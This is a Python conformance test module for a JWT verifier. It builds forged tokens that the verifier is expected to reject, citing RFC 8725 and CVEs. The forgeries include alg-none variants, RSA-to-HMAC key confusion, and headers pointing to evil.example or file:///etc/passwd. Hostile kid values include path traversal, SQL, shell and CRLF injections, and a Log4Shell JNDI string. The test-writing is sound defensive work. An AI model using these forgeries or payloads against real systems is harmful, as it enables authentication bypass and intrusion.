"""What a header can say to have another key, another algorithm or another reading used (A1; S-22, S-23, S-26)."""

from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization

from tests.conformance.tokens.case import Case, table
from tests.conformance.tokens.forge import (
    BATCH,
    BATCH_SECRET,
    GOOD,
    HEADER,
    JWKS,
    MALLORY,
    PARTNER,
    PARTNER_KEY,
    PSS_KEY,
    changed,
    headed,
    hmac_token,
    hs,
    signed,
    signing_input,
    with_signature,
)
from tests.support.tokens import b64, ec_key, ed_key, jwk, rsa_key

PUBLIC = rsa_key().public_key()
_PEM, _DER = serialization.Encoding.PEM, serialization.Encoding.DER
_SPKI, _PKCS1 = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1
SPKI_PEM = PUBLIC.public_bytes(_PEM, _SPKI)
STOLEN = signed().rsplit(b".", 1)[1]
NAMELESS_EVIL = "https://evil.example/keys.json"


def unsigned(header: object, signature: bytes = b"AA") -> bytes:
    return signing_input(header, GOOD) + b"." + signature


NONE = ["none", "None", "NONE", "nOnE", "none ", " none", "none\0", "none\n", "", "null", "n\u006fne", "\uff4eone", "NonE"]
_NONES = {
    **{f"alg {name!r}, some signature": unsigned({"alg": name}) for name in NONE},
    **{f"alg {name!r}, the signature of another token": unsigned({"alg": name, "kid": "rsa"}, STOLEN) for name in NONE[:4]},
}
_NO_SIGNATURES = {
    "alg none, no signature": unsigned({"alg": "none"}, b""),
    "alg NONE, no signature": unsigned({"alg": "NONE"}, b""),
    "alg none, two segments": signing_input({"alg": "none"}, GOOD),
}

SECRETS: dict[str, bytes] = {
    "PEM": SPKI_PEM,
    "PEM without its last line feed": SPKI_PEM.rstrip(),
    "PEM with CR LF": SPKI_PEM.replace(b"\n", b"\r\n"),
    "PKCS#1 PEM": PUBLIC.public_bytes(_PEM, _PKCS1),
    "DER": PUBLIC.public_bytes(_DER, _SPKI),
    "PKCS#1 DER": PUBLIC.public_bytes(_DER, _PKCS1),
    "base64 of the PEM": b"".join(SPKI_PEM.splitlines()[1:-1]),
    "modulus": PUBLIC.public_numbers().n.to_bytes(256),
    "JWK": json.dumps(jwk(rsa_key(), kid="rsa", alg="RS256")).encode(),
    "JWK Set": JWKS,
    "point of the EC key": ec_key().public_key().public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint),
    "Ed25519 key": ed_key().public_key().public_bytes_raw(),
    "empty": b"",
    "the word secret": b"secret",
}
_CONFUSED = {
    **{f"HS256 with the {name}": hmac_token(secret) for name, secret in SECRETS.items()},
    "HS384 with the PEM": hmac_token(SPKI_PEM, "HS384"),
    "HS512 with the PEM": hmac_token(SPKI_PEM, "HS512"),
    "HS256 with another issuer's secret": hmac_token(BATCH_SECRET),
}

_BATCH = {**GOOD, "iss": BATCH}
_COVERED = signing_input({"alg": "HS256"}, {**GOOD, "iss": BATCH})
_SHARED_SECRET = {
    "HS384 by the secret of HS256": hmac_token(BATCH_SECRET, "HS384", _BATCH),
    "HS512 by the secret of HS256": hmac_token(BATCH_SECRET, "HS512", _BATCH),
    "RS256 of an issuer that has a secret": signed(HEADER, _BATCH),
    "none of an issuer that has a secret": signing_input({"alg": "none"}, _BATCH) + b".AA",
}
_WRONG_SECRET = {
    "another secret": hmac_token(BATCH_SECRET + b"x", "HS256", _BATCH),
    "an empty secret": hmac_token(b"", "HS256", _BATCH),
    "the secret without its end": hmac_token(BATCH_SECRET[:-1], "HS256", _BATCH),
    "half of the MAC": with_signature(_COVERED, hs(_COVERED, BATCH_SECRET)[:16]),
    "SHA-256 without a key": with_signature(_COVERED, hashlib.sha256(_COVERED).digest()),
    "MAC of the payload alone": with_signature(_COVERED, hmac.digest(BATCH_SECRET, b64(json.dumps(_BATCH).encode()), "sha256")),
}

_UNPINNED = {
    f"alg {name}": jwt.encode(GOOD, rsa_key(), name, headers={"kid": "rsa"}).encode() for name in ("RS384", "RS512", "PS384", "PS512")
} | {
    f"alg {name!r}": signed(changed(HEADER, {"alg": name}))
    for name in (
        "rs256",
        "RS256 ",
        "RS256\0",
        "RS-256",
        "SHA256withRSA",
        "RS1",
        "ES256K",
        "Ed25519",
        "ESP256",
        "RSA-OAEP",
        "\uff32\uff33256",
        "dir",
    )
}
_NOT_TEXT: tuple[object, ...] = (None, True, 256, 1.5, ["RS256"], {"RS256": 1}, [])
_NO_STRING = {f"alg {json.dumps(value)}": signed(changed(HEADER, {"alg": value})) for value in _NOT_TEXT} | {
    "alg absent": signed(changed(HEADER, {"alg": ...}))
}


def _by(key: Any, algorithm: str, kid: str) -> bytes:
    return jwt.encode(GOOD, key, algorithm, headers={"kid": kid}).encode()


_CROSSED = {
    "PS256 by the key of RS256": _by(rsa_key(), "PS256", "rsa"),
    "RS256 by the key of PS256": _by(PSS_KEY, "RS256", "pss"),
    "ES256 naming the RSA key": _by(ec_key(), "ES256", "rsa"),
    "RS256 naming the EC key": _by(rsa_key(), "RS256", "ec"),
    "ES384 naming the key on P-256": _by(ec_key("P-384"), "ES384", "ec"),
    "ES256 naming the key on P-521": _by(ec_key(), "ES256", "ec521"),
    "EdDSA naming the EC key": _by(ed_key(), "EdDSA", "ec"),
    "ES256 naming the Ed25519 key": _by(ec_key(), "ES256", "ed"),
}
_OTHERS_KEYS = {
    "a partner's key, by its name": signed(changed(HEADER, {"kid": "partner"}), GOOD, PARTNER_KEY),
}
_OTHERS_SIGNATURES = {
    "a partner's key under our key's name": signed(HEADER, GOOD, PARTNER_KEY),
    "our key for a partner's token": signed(HEADER, {**GOOD, "iss": PARTNER}),
    "the other key of the set": signed(HEADER, GOOD, PSS_KEY),
}

_MALLORYS: dict[str, object] = {
    "jwk": jwk(MALLORY, kid="rsa"),
    "jku": NAMELESS_EVIL,
    "x5u": NAMELESS_EVIL,
    "x5c": ["MIIB"],
    "x5t": "AAAA",
    "x5t#S256": "AAAA",
}
_EMBEDDED = {
    **{f"{name}": signed(changed(HEADER, {name: value}), GOOD, MALLORY) for name, value in _MALLORYS.items()},
    **{f"{name}, without a kid": signed(changed(HEADER, {name: value, "kid": ...}), GOOD, MALLORY) for name, value in _MALLORYS.items()},
    "all of them": signed(changed(HEADER, _MALLORYS), GOOD, MALLORY),
    "jku on a loopback address": signed(changed(HEADER, {"jku": "http://127.0.0.1:1/keys"}), GOOD, MALLORY),
    "jku of the issuer with a user name": signed(changed(HEADER, {"jku": "https://login.example.gov@evil.example/k"}), GOOD, MALLORY),
    "jku as a file": signed(changed(HEADER, {"jku": "file:///etc/passwd"}), GOOD, MALLORY),
}
_EMBEDDED_SECRETS = {
    "jwk of a secret": hmac_token(b"k" * 32, jwk={"kty": "oct", "k": b64(b"k" * 32).decode(), "kid": "rsa"}),
}

KIDS = [
    "../../../../dev/null",
    "/dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "file:///dev/null",
    "https://evil.example/key",
    "rsa' UNION SELECT 'secret",
    "rsa;id",
    "$(id)",
    "`id`",
    "|/usr/bin/id",
    "rsa\0",
    "rsa\r\nX-Auth-Subject: root",
    "RSA",
    " rsa",
    "rsa ",
    "%72sa",
    "rs\u0430",
    "__proto__",
    "*",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
]
_KIDS = {f"kid {name!r}": headed(kid=name) for name in KIDS}
_NO_KIDS: dict[str, bytes] = {
    f"kid {json.dumps(value)[:20]}": headed(kid=value) for value in (None, 1, True, "", ["rsa"], {"kid": "rsa"}, "k" * 257, "k" * 5000)
}

_MEMBERS: list[tuple[str, object]] = [
    ("crit", ["exp"]),
    ("crit", ["b64"]),
    ("crit", ["alg"]),
    ("crit", ["kid", "kid"]),
    ("crit", ["http://example.invalid/UNDEFINED"]),
    ("crit", []),
    ("crit", "exp"),
    ("crit", None),
    ("crit", {}),
    ("crit", [1]),
    ("b64", False),
    ("b64", True),
    ("b64", "false"),
    ("zip", "DEF"),
    ("enc", "A128GCM"),
    ("epk", {}),
    ("apu", "AA"),
    ("apv", "AA"),
    ("cty", "JWT"),
    ("cty", "jwt"),
    ("cty", "application/JWT"),
    ("cty", 1),
    ("typ", "JWE"),
    ("typ", "logout+jwt"),
    ("typ", "application/logout+jwt"),
    ("typ", "dpop+jwt"),
    ("typ", "secevent+jwt"),
    ("typ", "token-introspection+jwt"),
    ("typ", "JWT+JWE"),
    ("typ", 1),
    ("typ", ["JWT"]),
]
_EXTENSIONS = {f"{name} {json.dumps(value)}": headed(**{name: value}) for name, value in _MEMBERS} | {
    "crit b64, and b64 false": headed(crit=["b64"], b64=False)
}

CASES: list[Case] = [
    *table("RFC 8725 section 2.1; CVE-2015-2951, CVE-2022-23540", "token_algorithm", _NONES),
    *table("RFC 7515 A.5; RFC 8725 section 3.1", "token_malformed", _NO_SIGNATURES),
    *table("RFC 8725 section 2.1; CVE-2015-9235, CVE-2022-29217, CVE-2026-48526", "token_algorithm", _CONFUSED),
    *table("RFC 8725 section 3.1: one key, one algorithm", "token_algorithm", _SHARED_SECRET),
    *table("RFC 7515 A.1, changed", "token_signature", _WRONG_SECRET),
    *table("RFC 7515 section 4.1.1: exact, case-sensitive names; RFC 8725 section 3.1", "token_algorithm", _UNPINNED),
    *table("RFC 7515 section 4.1.1: alg is a string", "token_malformed", _NO_STRING),
    *table("RFC 8725 section 3.1: one key, one algorithm", "token_key_unknown", _CROSSED),
    *table("RFC 8725 section 3.8: keys belong to their issuer", "token_key_unknown", _OTHERS_KEYS),
    *table("RFC 8725 section 3.8: keys belong to their issuer", "token_signature", _OTHERS_SIGNATURES),
    *table("RFC 7515 sections 4.1.2 to 4.1.8; RFC 8725 section 3.10; CVE-2018-0114", "token_signature", _EMBEDDED),
    *table("CVE-2018-0114 with a secret", "token_algorithm", _EMBEDDED_SECRETS),
    *table("RFC 8725 section 3.10: a kid is a name and nothing else", "token_key_unknown", _KIDS),
    *table("RFC 7515 section 4.1.4: kid is a string", "token_malformed", _NO_KIDS),
    *table("RFC 7515 section 4.1.11, RFC 7797 section 7, RFC 8725 section 3.11; CVE-2025-59420", "token_malformed", _EXTENSIONS),
]
